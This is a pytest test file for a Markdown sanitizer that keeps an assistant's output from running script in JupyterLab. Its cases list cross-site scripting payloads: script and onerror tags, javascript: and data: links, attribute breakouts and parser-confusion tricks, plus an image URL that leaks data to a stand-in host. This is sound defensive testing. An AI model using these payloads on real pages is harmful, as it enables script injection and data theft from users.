"""A model's Markdown must not act in the page that shows it."""

from __future__ import annotations

import pytest

from local_assistant.lab.magics.markdown import safe_markdown


@pytest.mark.parametrize(
    "honest",
    [
        "# Title\n\nSome *text*, a < b and 1 <2.\n\n- one\n- two",
        "Use `List<int>` and `Map<str>`.",
        "```html\n<div onclick='x()'>\n```\n\nand\n\n~~~\n<b>\n~~~",
        "1. First:\n   ```cpp\n   #include <vector>\n   ```\n2. Then",
        "See [the docs](https://docs.python.org/3/library/re.html?a=1&b=2#x).",
        "[mail](mailto:someone@example.org), [below](#part-2), [file](data/notes.md)",
        "$$\\frac{a}{b}$$ and $x < y$",
        "| a | b |\n|---|---|\n| `x` | 2 |",
        "```python\nif a <b:\n    print(f'{a}')",
    ],
)
def test_an_honest_answer_stays_as_it_is(honest: str) -> None:
    assert safe_markdown(honest) == honest


@pytest.mark.parametrize(
    "evil",
    [
        "<script>alert(1)</script>",
        "text <img src=x onerror=alert(1)>",
        "</div><iframe src=//far.example>",
        "<!-- --><b>",
        # What is code to a careless reader, and not to JupyterLab's:
        "`one\n`<img src=x>`",
        "   ```\n```\n<img src=x>\n```",
        "- ```\n  a\n  ```\n<img src=x>\n```",
        "> ```\n\n<img src=x>\n\n> ```",
        "- a\n  ```\n<img src=x>\n  ```",
        "para\n    ```\n\n<img src=x>\n\n    ```",
        "| ` | <img src=x> ` |",
        "*```a <img src=x>`* ```",
        "\\`<img src=x>`",
        "$ \\\\`$ <img src=x> `",
        "\\begin{a}\n```\n\\end{a}\n<img src=x>\n```",
        "$\n```\n$ <img src=x>",
        "```\na\n  ```\n<img src=x>",
        "see https://a.example/`b><img src=x>`",
    ],
)
def test_no_tag_is_left(evil: str) -> None:
    safe = safe_markdown(evil)
    assert "<img" not in safe
    assert "<script" not in safe
    assert "<iframe" not in safe
    assert "<b" not in safe
    assert "<!" not in safe


@pytest.mark.parametrize(
    "evil",
    [
        "[x](javascript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x]( javascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](data:text/html,x)",
        '[x](https://a.example "$" onmouseover=alert(1) $")',
        "[x](\njavascript:alert(1))",
        "```*[x](&#106;avascript:alert(1))",
    ],
)
def test_no_link_leads_to_a_script(evil: str) -> None:
    assert "](" not in safe_markdown(evil)


def test_no_link_is_defined_apart() -> None:
    assert safe_markdown("[x]\n\n[x]: javascript:alert(1)") == "[x]\n\n[x]\\: javascript:alert(1)"


def test_an_image_becomes_a_link() -> None:
    """Loading it would tell a server on the net, perhaps with data in the address."""
    shown = safe_markdown("![chart](https://far.example/?data=secret)")
    assert shown == "! [chart](https://far.example/?data=secret)"


@pytest.mark.parametrize("evil", [r"\![x](u)", r"\\![x](u)", "a\n![x][r]", "`~~`~~ ![x](u) `"])
def test_nothing_in_front_makes_it_an_image(evil: str) -> None:
    assert "![" not in safe_markdown(evil)


def test_what_is_struck_out_ends_no_code_span() -> None:
    """JupyterLab's reader strikes out first: what looks like code behind it is none."""
    assert safe_markdown("~~`~~x <img src=x> `") == "~~`~~x &lt;img src=x> `"
    assert safe_markdown("~~a\n`b~~ <img src=x> `") == "~~a\n`b~~ &lt;img src=x> `"


@pytest.mark.parametrize("fence", ["```mermaid", "~~~ Mermaid", "> ```mermaid", '```mer"maid'])
def test_a_diagram_is_shown_as_its_text(fence: str) -> None:
    """One may name images, and JupyterLab fetches them."""
    shown = safe_markdown(f"{fence}\nflowchart\n A[x]\n{fence[:3]}")
    assert "mermaid" not in shown.lower() and "flowchart" in shown


@pytest.mark.parametrize("evil", ['```" onmouseover=alert(1)\ntext', '> ~~~$" onx=1 $\ntext'])
def test_nothing_gets_out_of_the_attribute_of_a_fence(evil: str) -> None:
    line = safe_markdown(evil).splitlines()[0]
    assert '"' not in line
    assert "$" not in line


def test_nothing_gets_out_of_a_bare_link_by_way_of_math() -> None:
    safe = safe_markdown('https://a.example/$" onmouseover=alert(1) $')
    assert safe.startswith("https://a.example/ $")


def test_a_growing_answer_is_safe_at_every_length() -> None:
    evil = "A `code` span.\n\n```html\n<b>\n```\n<script>alert(1)</script> `<i>`"
    for length in range(len(evil)):
        outside = safe_markdown(evil[:length]).replace("```html\n<b>", "")
        assert "<script" not in outside
